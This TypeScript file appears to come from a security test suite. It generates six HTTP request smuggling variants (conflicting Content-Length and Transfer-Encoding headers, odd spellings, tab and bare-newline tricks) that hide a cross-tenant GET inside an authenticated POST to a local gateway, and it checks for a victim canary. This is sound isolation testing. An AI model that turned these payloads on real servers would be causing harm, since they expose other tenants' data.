import { type Attack, held, inconclusive, type Outcome, through } from "../attack.ts";
import { canaryOf } from "../canaries.ts";
import { sendRaw } from "../client.ts";
import type { Field } from "../field.ts";
import type { Target } from "../target.ts";

/** The heads of requests whose end two readers see in different places; `length` is the smuggled request's. */
const SHAPES: Readonly<Record<string, (length: number) => readonly string[]>> = {
  "length and chunks": (length) => [`Content-Length: ${length + 5}`, "Transfer-Encoding: chunked"],
  "chunks and length": (length) => ["Transfer-Encoding: chunked", `Content-Length: ${length + 5}`],
  "chunks of another spelling and length": (length) => ["TRANSFER-ENCODING: Chunked", `content-length: ${length + 5}`],
  "length and chunks by a bare line feed": (length) => [`Content-Length: ${length + 5}\nTransfer-Encoding: chunked`],
  "chunks with a tab before": (length) => ["Transfer-Encoding:\tchunked", `Content-Length: ${length + 5}`],
  "no length, and a second request behind it": () => ["Content-Length: 0"],
};

/** A request inside another, of which a reader sees one and the next sees two. */
export function smuggling(target: Target): readonly Attack[] {
  const { attacker, victim, stage } = target;
  const smuggled = `GET /${stage}/tenants/${victim.id}/users HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`;
  const request = async ({ token }: Field, lines: readonly string[], body: string): Promise<string> =>
    [
      `POST /${stage}/tenants/${attacker.id}/users HTTP/1.1`,
      "Host: 127.0.0.1",
      `Authorization: Bearer ${await token(attacker.id)}`,
      ...lines,
      "",
      body,
    ].join("\r\n");
  return Object.entries(SHAPES).map(([name, lines]): Attack => {
    const isChunked = name.includes("chunks");
    return {
      kind: "request smuggling",
      name,
      wall: "gateway",
      attempt: async (field) => {
        const text = await request(field, lines(smuggled.length), isChunked ? `0\r\n\r\n${smuggled}` : smuggled);
        return outcomeOf(await sendRaw(field.port, text), target);
      },
      hole: "lenient front",
    };
  });
}

function outcomeOf(answered: string, { victim }: Target): Outcome {
  if (answered.includes(canaryOf(victim.id))) return through(`shown what is ${victim.id}'s`);
  const statuses = answered.match(/HTTP\/1\.1 \d{3}/g) ?? [];
  return statuses.length > 0 ? held(statuses.join(", ")) : inconclusive("no answer at all");
}
